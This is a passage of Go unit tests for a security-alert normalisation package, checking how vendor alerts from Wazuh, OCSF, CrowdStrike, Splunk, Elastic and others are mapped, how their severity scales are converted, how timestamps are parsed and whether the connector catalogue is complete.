	{name: "wazuh rule without description", key: "wazuh", payload: `{"rule":{"level":5,"id":"1"}}`, unmap: "no rule.description"},
	{name: "ocsf not a finding", key: "ocsf", payload: `{"class_uid":3002,"class_name":"Authentication","time":1715678467000}`, unmap: "class_uid 3002"},
	{name: "ocsf no finding_info", key: "ocsf", payload: `{"message":"x"}`, unmap: "no class_uid and no finding_info"},
	{name: "ocsf finding without title", key: "ocsf", payload: `{"class_uid":2004,"finding_info":{"uid":"x"}}`, unmap: "no finding_info.title"},
	{name: "email not an email", key: "email", payload: `{"foo":1}`, unmap: "not an email"},
}

func TestErrors(t *testing.T) {
	for _, c := range errCases {
		t.Run(c.name, func(t *testing.T) {
			alerts, err := Map(c.key, []byte(c.payload))
			switch {
			case c.zero:
				if err != nil || len(alerts) != 0 {
					t.Fatalf("got %d alerts, %v; want none and no error", len(alerts), err)
				}
			case c.unmap != "":
				var u *Unmappable
				if !errors.As(err, &u) {
					t.Fatalf("got %v (%T), want *Unmappable", err, err)
				}
				if !strings.Contains(u.Reason, c.unmap) {
					t.Errorf("Reason %q does not contain %q", u.Reason, c.unmap)
				}
			default:
				var fe *FieldError
				if !errors.As(err, &fe) {
					t.Fatalf("got %v (%T), want *FieldError", err, err)
				}
				if fe.Field != c.field {
					t.Errorf("Field = %q, want %q (reason %q)", fe.Field, c.field, fe.Reason)
				}
				if fe.Reason == "" {
					t.Error("empty Reason")
				}
				if c.field == "" && !strings.Contains(fe.Reason, "JSON") {
					t.Errorf("Reason %q should say what is wrong with the JSON", fe.Reason)
				}
			}
			if err != nil && alerts != nil {
				t.Errorf("alerts returned with an error")
			}
		})
	}
}

func TestMalformedJSONReason(t *testing.T) {
	_, err := Map("generic", []byte(`{"title": "x",}`))
	var fe *FieldError
	if !errors.As(err, &fe) || fe.Field != "" || !strings.HasPrefix(fe.Reason, "malformed JSON") {
		t.Fatalf("got %#v", err)
	}
}

func TestGenericLimitsAndNormalisation(t *testing.T) {
	long := strings.Repeat("é", 1500)
	alerts, err := Map("generic", []byte(`{"title":"`+long+`","severity":" Critical ","mitre":["t1059.001","T1059.001"],"tags":["a"," a ","","b"]}`))
	if err != nil {
		t.Fatal(err)
	}
	a := alerts[0]
	if n := utf8.RuneCountInString(a.Title); n != 1000 {
		t.Errorf("title has %d characters, want 1000", n)
	}
	if a.Severity != sevCritical {
		t.Errorf("severity %s", a.Severity)
	}
	if !slices.Equal(a.Mitre, []string{"T1059.001"}) || !slices.Equal(a.Tags, []string{"a", "b"}) {
		t.Errorf("mitre %v tags %v", a.Mitre, a.Tags)
	}
	alerts, err = Map("generic", []byte(`{"title":"line one\nline\ttwo"}`))
	if err != nil || alerts[0].Title != "line one line two" || alerts[0].Severity != sevMedium {
		t.Errorf("got %+v, %v", alerts, err)
	}
	for sev, want := range map[string]enum.Severity{`5`: sevCritical, `4`: sevHigh, `"3"`: sevMedium, `2`: sevLow, `1`: sevInfo, `"informational"`: sevInfo, `"LOW"`: sevLow} {
		alerts, err := Map("generic", []byte(`{"title":"x","severity":`+sev+`}`))
		if err != nil || alerts[0].Severity != want {
			t.Errorf("severity %s: got %v, %v; want %s", sev, alerts, err, want)
		}
	}
}

func TestUnknownType(t *testing.T) {
	if _, err := Map("nope", []byte(`{}`)); !errors.Is(err, ErrUnknownType) {
		t.Fatalf("got %v", err)
	}
	if _, ok := Lookup("nope"); ok {
		t.Fatal("Lookup(nope) found a type")
	}
	if typ, ok := Lookup(" CrowdStrike "); !ok || typ.Key != "crowdstrike" {
		t.Fatal("Lookup is not case-insensitive")
	}
}

// ---- severity scales ----

func TestSeverityScales(t *testing.T) {
	cases := []struct {
		name  string
		scale scale
		in    any
		want  enum.Severity
	}{
		{"ocsf 0 unknown", ocsfScale, json.Number("0"), sevMedium},
		{"ocsf 1", ocsfScale, json.Number("1"), sevInfo},
		{"ocsf 2", ocsfScale, json.Number("2"), sevLow},
		{"ocsf 3", ocsfScale, json.Number("3"), sevMedium},
		{"ocsf 4", ocsfScale, json.Number("4"), sevHigh},
		{"ocsf 5", ocsfScale, json.Number("5"), sevCritical},
		{"ocsf 6 fatal", ocsfScale, json.Number("6"), sevCritical},
		{"ocsf 99 other", ocsfScale, json.Number("99"), sevMedium},
		{"ocsf 7 undefined", ocsfScale, json.Number("7"), sevMedium},
		{"ocsf caption", ocsfScale, "Fatal", sevCritical},
		{"crowdstrike name", crowdstrikeNames, "Informational", sevInfo},
		{"crowdstrike Critical", crowdstrikeNames, "Critical", sevCritical},
		{"crowdstrike level 1", crowdstrikeLevel, json.Number("1"), sevInfo},
		{"crowdstrike level 4", crowdstrikeLevel, json.Number("4"), sevHigh},
		{"crowdstrike level 5", crowdstrikeLevel, json.Number("5"), sevCritical},
		{"crowdstrike score 10", crowdstrikeScore, json.Number("10"), sevInfo},
		{"crowdstrike score 30", crowdstrikeScore, json.Number("30"), sevLow},
		{"crowdstrike score 50", crowdstrikeScore, json.Number("50"), sevMedium},
		{"crowdstrike score 70", crowdstrikeScore, json.Number("70"), sevHigh},
		{"crowdstrike score 90", crowdstrikeScore, json.Number("90"), sevCritical},
		{"crowdstrike score 101", crowdstrikeScore, json.Number("101"), sevMedium},
		{"sentinelone malicious", sentineloneScale, "malicious", sevHigh},
		{"sentinelone suspicious", sentineloneScale, "SUSPICIOUS", sevMedium},
		{"sentinelone n/a", sentineloneScale, "n/a", sevMedium},
		{"defender informational", defenderScale, "informational", sevInfo},
		{"defender High", defenderScale, "High", sevHigh},
		{"defender unknown", defenderScale, "unknown", sevMedium},
		{"defender UnSpecified", defenderScale, "UnSpecified", sevMedium},
		{"splunk 0", splunkScale, "0", sevInfo},
		{"splunk 1", splunkScale, json.Number("1"), sevInfo},
		{"splunk 2", splunkScale, "2", sevLow},
		{"splunk 3", splunkScale, "3", sevLow},
		{"splunk 4", splunkScale, "4", sevMedium},
		{"splunk 5", splunkScale, "5", sevMedium},
		{"splunk 6", splunkScale, "6", sevHigh},
		{"splunk 7", splunkScale, "7", sevHigh},
		{"splunk 8", splunkScale, "8", sevCritical},
		{"splunk 10", splunkScale, "10", sevCritical},
		{"splunk 11", splunkScale, "11", sevMedium},
		{"splunk -1", splunkScale, "-1", sevMedium},
		{"splunk informational", splunkScale, "informational", sevInfo},
		{"splunk critical", splunkScale, "critical", sevCritical},
		{"elastic low", elasticScale, "low", sevLow},
		{"elastic critical", elasticScale, "critical", sevCritical},
		{"elastic risk 21", elasticRisk, json.Number("21"), sevLow},
		{"elastic risk 22", elasticRisk, json.Number("22"), sevMedium},
		{"elastic risk 47", elasticRisk, json.Number("47"), sevMedium},
		{"elastic risk 73", elasticRisk, json.Number("73"), sevHigh},
		{"elastic risk 99", elasticRisk, json.Number("99"), sevCritical},
		{"wazuh 0", wazuhScale, json.Number("0"), sevInfo},
		{"wazuh 3", wazuhScale, json.Number("3"), sevInfo},
		{"wazuh 4", wazuhScale, json.Number("4"), sevLow},
		{"wazuh 7", wazuhScale, "7", sevLow},
		{"wazuh 8", wazuhScale, json.Number("8"), sevMedium},
		{"wazuh 11", wazuhScale, json.Number("11"), sevMedium},
		{"wazuh 12", wazuhScale, json.Number("12"), sevHigh},
		{"wazuh 14", wazuhScale, json.Number("14"), sevHigh},
		{"wazuh 15", wazuhScale, json.Number("15"), sevCritical},
		{"wazuh 16", wazuhScale, json.Number("16"), sevMedium},
		{"suricata 1", suricataScale, json.Number("1"), sevHigh},
		{"suricata 2", suricataScale, json.Number("2"), sevMedium},
		{"suricata 3", suricataScale, json.Number("3"), sevLow},
		{"suricata 4", suricataScale, json.Number("4"), sevInfo},
		{"suricata 0", suricataScale, json.Number("0"), sevMedium},
		{"alertmanager page", alertmanagerScale, "page", sevCritical},
		{"alertmanager error", alertmanagerScale, "error", sevHigh},
		{"alertmanager warning", alertmanagerScale, "Warning", sevMedium},
		{"alertmanager info", alertmanagerScale, "info", sevInfo},
		{"alertmanager none set", alertmanagerScale, nil, sevMedium},
		{"alertmanager custom", alertmanagerScale, "sev-foo", sevMedium},
	}
	for _, c := range cases {
		if got := c.scale.of(c.in); got != c.want {
			t.Errorf("%s: of(%v) = %s, want %s", c.name, c.in, got, c.want)
		}
	}
}

func TestEmailSubjectSeverity(t *testing.T) {
	for subject, want := range map[string]enum.Severity{
		"[CRITICAL] Domain admin added":         sevCritical,
		"(high) Suspicious login":               sevHigh,
		"Re: [Low] weekly report":               sevLow,
		"WARNING: certificate expires in 3d":    sevMedium,
		"[INFO] Backup completed":               sevInfo,
		"[ACME] [SEV1] outage":                  sevCritical,
		"{P2} VPN brute force":                  sevHigh,
		"Critical update available for Chrome":  sevMedium, // a word, not a tag
		"Quarterly phishing simulation results": sevMedium,
	} {
		if got := emailSeverity(subject); got != want {
			t.Errorf("emailSeverity(%q) = %s, want %s", subject, got, want)
		}
	}
}

// ---- helpers ----

func TestParseTime(t *testing.T) {
	for in, want := range map[any]string{
		"2024-05-14T09:21:07Z":             "2024-05-14T09:21:07Z",
		"2024-05-14T11:21:07.5+02:00":      "2024-05-14T09:21:07.5Z",
		"2024-05-14T18:22:31.104523+0000":  "2024-05-14T18:22:31.104523Z",
		"2024-05-14T16:41:03.812+0000":     "2024-05-14T16:41:03.812Z",
		"Tue, 14 May 2024 21:03:44 +0200":  "2024-05-14T19:03:44Z",
		json.Number("1715678467"):          "2024-05-14T09:21:07Z",
		json.Number("1715678467000"):       "2024-05-14T09:21:07Z",
		json.Number("1715678467000000"):    "2024-05-14T09:21:07Z",
		json.Number("1715678467000000000"): "2024-05-14T09:21:07Z",
		"1715678467.250":                   "2024-05-14T09:21:07.25Z",
		"0001-01-01T00:00:00Z":             "",
		"not a time":                       "",
		json.Number("-5"):                  "",
		json.Number("1e300"):               "",
		"":                                 "",
		"2024-05-14 09:21:07":              "2024-05-14T09:21:07Z",
	} {
		got := ""
		if ts := parseTime(in); ts != nil {
			got = ts.Format(time.RFC3339Nano)
		}
		if got != want {
			t.Errorf("parseTime(%v) = %q, want %q", in, got, want)
		}
	}
}

func TestGetDottedAndNested(t *testing.T) {
	var doc map[string]any
	d := json.NewDecoder(strings.NewReader(`{
		"kibana.alert.rule.name": "dotted",
		"kibana": {"alert": {"severity": "high", "rule": {"uuid": "nested"}}},
		"host": {"name": ["a", "b"]},
		"threat": [{"technique": [{"id": "T1059"}]}],
		"@odata.type": "#x.deviceEvidence"
	}`))
	d.UseNumber()
	if err := d.Decode(&doc); err != nil {
		t.Fatal(err)
	}
	for path, want := range map[string]string{
		"kibana.alert.rule.name":  "dotted",
		"kibana.alert.severity":   "high",
		"kibana.alert.rule.uuid":  "nested",
		"host.name":               "a",
		"host.name.1":             "b",
		"threat.technique.id":     "T1059",
		"threat.0.technique.0.id": "T1059",
		"@odata.type":             "#x.deviceEvidence",
		"kibana.alert.missing":    "",
		"host.name.5":             "",
	} {
		if got := gs(doc, path); got != want {
			t.Errorf("gs(%q) = %q, want %q", path, got, want)
		}
	}
}

func TestTechniquesInLinks(t *testing.T) {
	got := techniquesIn("see https://attack.mitre.org/techniques/T1070/004/ and T1059.001, not TA0002")
	if !slices.Equal(got, []string{"T1070.004", "T1059.001"}) {
		t.Errorf("got %v", got)
	}
}

// ---- the catalogue itself ----

func TestCatalogue(t *testing.T) {
	wantKeys := []string{"generic", "ocsf", "crowdstrike", "sentinelone", "defender", "splunk", "elastic", "wazuh", "suricata", "alertmanager", "email"}
	types := Types()
	var keys []string
	for _, typ := range types {
		keys = append(keys, typ.Key)
	}
	if !slices.Equal(keys, wantKeys) {
		t.Fatalf("keys %v, want %v", keys, wantKeys)
	}
	for _, typ := range types {
		if typ.Name == "" || typ.Vendor == "" || typ.Description == "" || typ.SeverityScale == "" || typ.Map == nil {
			t.Errorf("%s: incomplete type", typ.Key)
		}
		if len(typ.Modes) == 0 {
			t.Errorf("%s: no modes", typ.Key)
		}
		pull := false
		for _, m := range typ.Modes {
			if !m.Valid() {
				t.Errorf("%s: invalid mode %q", typ.Key, m)
			}
			pull = pull || m == enum.ConnectorModePull
		}
		if len(typ.DedupFields) == 0 {
			t.Errorf("%s: no dedup fields", typ.Key)
		}
		for _, f := range typ.DedupFields {
			if !IsDedupField(f) {
				t.Errorf("%s: dedup field %q is neither a normalised field nor an attribute key", typ.Key, f)
			}
		}
		targets := map[string]bool{}
		for _, m := range typ.Mapping {
			if m.Target == "" || m.Source == "" {
				t.Errorf("%s: incomplete mapping %+v", typ.Key, m)
			}
			targets[m.Target] = true
		}
		for _, need := range []string{"title", "severity"} {
			if !targets[need] {
				t.Errorf("%s: mapping does not document %s", typ.Key, need)
			}
		}
		s := typ.Settings
		if s["$schema"] != "https://json-schema.org/draft/2020-12/schema" || s["type"] != "object" {
			t.Errorf("%s: settings is not a draft 2020-12 object schema", typ.Key)
		}
		props, _ := s["properties"].(map[string]any)
		req, _ := s["x-required-for-pull"].([]string)
		if pull && len(req) == 0 {
			t.Errorf("%s: pull type without required pull settings", typ.Key)
		}
		// Pull is offered only where a poller honours it; the interval is
		// the connector's own field, not a setting.
		if pull != (typ.NewPoller != nil) {
			t.Errorf("%s: pull mode %v but poller %v", typ.Key, pull, typ.NewPoller != nil)
		}
		if _, ok := props["poll_interval_seconds"]; ok {
			t.Errorf("%s: poll_interval_seconds is the connector's field, not a setting", typ.Key)
		}
		for _, r := range req {
			if _, ok := props[r]; !ok {
				t.Errorf("%s: required setting %q not among the properties", typ.Key, r)
			}
		}
		for name, p := range props {
			pm, _ := p.(map[string]any)
			if pm["type"] == nil || pm["description"] == nil {
				t.Errorf("%s: setting %s lacks type or description", typ.Key, name)
			}
			if strings.Contains(name, "secret") || strings.Contains(name, "token") || name == "password" || name == "api_key" {
				if pm["writeOnly"] != true {
					t.Errorf("%s: secret setting %s is not writeOnly", typ.Key, name)
				}
			}
		}
		if got, ok := Lookup(typ.Key); !ok || got.Key != typ.Key {
			t.Errorf("Lookup(%q) failed", typ.Key)
		}
	}
	out, err := json.Marshal(types)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Contains(out, []byte(`"severity_scale"`)) || bytes.Contains(out, []byte(`"Map"`)) {
		t.Errorf("unexpected catalogue JSON: %.200s", out)
	}
	types[0].Key = "changed"
	if Types()[0].Key != "generic" {
		t.Error("Types does not return a copy")
	}
}
